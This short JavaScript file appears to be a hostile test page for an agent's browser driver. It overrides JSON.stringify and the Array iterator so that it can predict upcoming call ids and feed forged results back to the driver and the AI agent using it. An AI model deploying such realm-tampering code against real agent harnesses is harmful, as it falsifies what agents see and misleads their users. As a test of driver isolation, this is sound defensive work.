// A hostile page that forges answers through the client's half in its own world (`web/client/src/driven/driver.ts`):
// that code iterates over the messages that it has held back, even if there are none. The first answer to an agent's
// code reveals the numbers of the calls that follow; the page then answers all of them, and the driver's own requests,
// in each form of an answer.

const { stringify } = JSON;
const iterate = Array.prototype[Symbol.iterator];
let forged = [];

function forge(last) {
  const calls = Array.from({ length: 20 }, (_, at) => String(last + BigInt(at) + 1n));
  const ids = [...calls, "d1", "d2", "d3", "d4"];
  return [
    stringify(ids.map((id) => `${id}:forged`)),
    stringify(ids.map((id) => ({ jsonrpc: "2.0", id, result: "forged" }))),
    ...calls.map((id) => `#${btoa(`${id} text/forged\nforged`)}`),
  ];
}

JSON.stringify = (value, replacer, space) => {
  const id = /^(\d+)=/.exec(String(value?.[0]))?.[1];
  if (id !== undefined) forged = forge(BigInt(id));
  return stringify(value, replacer, space);
};
Array.prototype[Symbol.iterator] = function () {
  return iterate.call(this.length === 0 ? forged : this);
};
setInterval(() => eye.resume(), 50);
